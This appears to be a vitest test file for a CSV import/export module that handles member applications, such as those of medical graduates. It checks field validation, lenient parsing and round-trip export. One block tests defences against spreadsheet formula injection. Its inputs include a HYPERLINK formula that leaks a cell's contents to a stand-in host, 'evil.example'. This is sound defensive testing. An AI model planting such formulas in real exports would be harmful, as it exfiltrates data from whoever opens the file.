import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "~/platform/csv";
import { applicationCsvRow, checkImportHeader, checkImportRow, memberCsvHeader, memberCsvTemplate } from "./member-csv";

const now = new Date("2026-03-01T12:00:00Z");
const template = Object.fromEntries(memberCsvTemplate[0].map((c, i) => [c, memberCsvTemplate[1][i]]));
const row = (changes: Record<string, string | undefined> = {}) => ({ ...template, ...changes });

describe("the members CSV", () => {
  it("accepts the template's example row, mapped to the application form's fields", () => {
    const checked = checkImportRow(row(), now);
    expect(checked).toMatchObject({
      ok: true,
      input: {
        name: "Dr. Ana Reyes",
        email: "ana@example.org",
        schoolName: "SUNY Upstate Medical University",
        graduationYear: 2019,
        step1: "passed",
        step1Date: "2016-06-01",
        step3: "not-taken",
        specialties: ["Family medicine", "Pediatrics"],
        workStates: ["NY", "PA"],
        primaryCareUnderserved: true,
        consentStatistics: true,
      },
    });
  });

  it.each([
    ["a short ZIP code", { zip: "123" }, "zip", "A ZIP code has 5 digits, like 13202."],
    ["a missing name", { name: "" }, "name", "Please enter your full name."],
    ["a bad e-mail", { email: "ana@" }, "email", undefined],
    ["a graduation year in words", { graduation_year: "twenty" }, "graduation_year", "Please enter the year you graduated, like 2019."],
    ["an unknown degree", { degree: "MBBS" }, "degree", "Please choose your medical degree."],
    ["an unknown exam result", { step2ck: "pased" }, "step2ck", "Please use passed, failed, not-taken or pending (or leave it empty)."],
    ["a badly written exam date", { step1_date: "01/06/2016" }, "step1_date", "Please give the date as YYYY-MM-DD."],
    ["a state name instead of a code", { work_states: "New York" }, "work_states", "Please use two-letter state codes, like NY, NJ."],
    ["a yes/no answer left empty", { primary_care_underserved: "" }, "primary_care_underserved", "Please answer yes or no."],
    ["an unknown ECFMG answer", { ecfmg_certified: "maybe" }, "ecfmg_certified", "Please use yes, no or pending (or leave it empty)."],
  ])("reports %s against its column", (_name, changes, column, message) => {
    const checked = checkImportRow(row(changes), now);
    expect(checked.ok).toBe(false);
    if (checked.ok) return;
    expect(checked.problems.map((p) => p.column)).toEqual([column]);
    if (message) expect(checked.problems[0].message).toBe(message);
  });

  it("forgives the way spreadsheets write choices: case, spaces and empty optional columns", () => {
    const checked = checkImportRow(
      row({ degree: "do", citizenship: "Permanent Resident", training_status: "Left residency", step1: "Passed", step3: "", ecfmg_certified: "", consent_statistics: "" }),
      now,
    );
    expect(checked).toMatchObject({
      ok: true,
      input: { degree: "DO", citizenship: "permanent-resident", trainingStatus: "left-residency", step1: "passed", step3: "not-taken", ecfmgCertified: "no", consentStatistics: false },
    });
  });

  it("names the required columns a file lacks, and the ones it does not know", () => {
    expect(checkImportHeader(memberCsvHeader)).toEqual({ ok: true, unknown: [] });
    expect(checkImportHeader(["name", "email", "phone"])).toMatchObject({ ok: false, missing: expect.arrayContaining(["zip", "degree", "school", "citizenship"]), unknown: ["phone"] });
  });

  it("writes the export in the import's columns, so an exported file imports again unchanged", () => {
    const checked = checkImportRow(row(), now);
    if (!checked.ok) throw new Error("template row rejected");
    const i = checked.input;
    const exported = applicationCsvRow({
      ...i,
      state: "NY",
      decision: "eligible",
      status: "approved",
      createdAt: now,
      verifiedAt: null,
      exams: { step1: { result: i.step1, date: i.step1Date }, step2ck: { result: i.step2ck, date: i.step2ckDate } },
    });
    expect(exported).toHaveLength(memberCsvHeader.length);
    const again = checkImportRow(Object.fromEntries(memberCsvHeader.map((c, n) => [c, String(exported[n])])), now);
    expect(again).toEqual(checked);
  });
});

describe("the members CSV and spreadsheet formulas", () => {
  /** A stored application with these answers, exported, parsed as the import parses it, and checked again. */
  const exportedAndReadBack = (stored: { name: string; schoolName?: string }) => {
    const template = checkImportRow(row(), now);
    if (!template.ok) throw new Error(JSON.stringify(template.problems));
    const checked = { ...template, input: { ...template.input, ...stored } };
    const i = checked.input;
    const exported = applicationCsvRow({
      ...i,
      state: "NY",
      decision: "eligible",
      status: "approved",
      createdAt: now,
      verifiedAt: null,
      exams: { step1: { result: i.step1, date: i.step1Date }, step2ck: { result: i.step2ck, date: i.step2ckDate } },
    });
    const file = toCsv([memberCsvHeader, exported]);
    const [record] = parse(file, { columns: true }) as Record<string, string>[];
    return { checked, file, record, again: checkImportRow(record, now) };
  };

  it.each([
    ["=", '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'],
    ["+", "+1 Medical School"],
    ["-", "-Dr. Minus"],
    ["@", "@SUM(A1:A2)"],
    ["a full-width =", '\uFF1DHYPERLINK("https://evil.example")'],
  ])("neutralises a name and a school starting with %s, and imports them back unchanged", (_char, text) => {
    const { checked, file, record, again } = exportedAndReadBack({ name: text, schoolName: text });
    expect(file).toContain(`"'${text.replace(/"/g, '""')}"`);
    expect(record.name).toBe(`'${text}`);
    expect(record.school).toBe(`'${text}`);
    expect(again).toEqual(checked);
    if (again.ok) expect(again.input.name).toBe(text);
  });

  it("imports a name typed with a leading quote back with its quote", () => {
    const { checked, record, again } = exportedAndReadBack({ name: "'=Dr. Quote" });
    expect(record.name).toBe("''=Dr. Quote");
    expect(again).toEqual(checked);
  });
});

describe("my data as CSV", () => {
  it("puts the account, the application with each exam, and every cycle one value per line", async () => {
    const { personalDataCsvRows } = await import("./member-csv");
    const rows = personalDataCsvRows({
      account: { email: "ana@example.org", roles: ["member"] },
      application: {
        zip: "13202",
        citizenship: "us-citizen",
        exams: { step1: { result: "passed", date: "2016-06-01" } },
        specialties: ["Family medicine", "Pediatrics"],
        reasons: [{ message: "We need Step 2 CK passed." }],
        verifiedAt: null,
      },
      matchCycles: [{ year: 2021, amountSpent: 9100 }],
    });
    expect(rows).toEqual([
      ["section", "field", "value"],
      ["account", "email", "ana@example.org"],
      ["account", "roles", "member"],
      ["application", "zip", "13202"],
      ["application", "citizenship", "US citizen"],
      ["application", "USMLE Step 1", "Passed"],
      ["application", "USMLE Step 1 date", "2016-06-01"],
      ["application", "specialties", "Family medicine; Pediatrics"],
      ["application", "rules' reason", "We need Step 2 CK passed."],
      ["application", "verifiedAt", ""],
      ["match cycle 2021", "year", "2021"],
      ["match cycle 2021", "amountSpent", "9100"],
    ]);
  });
});
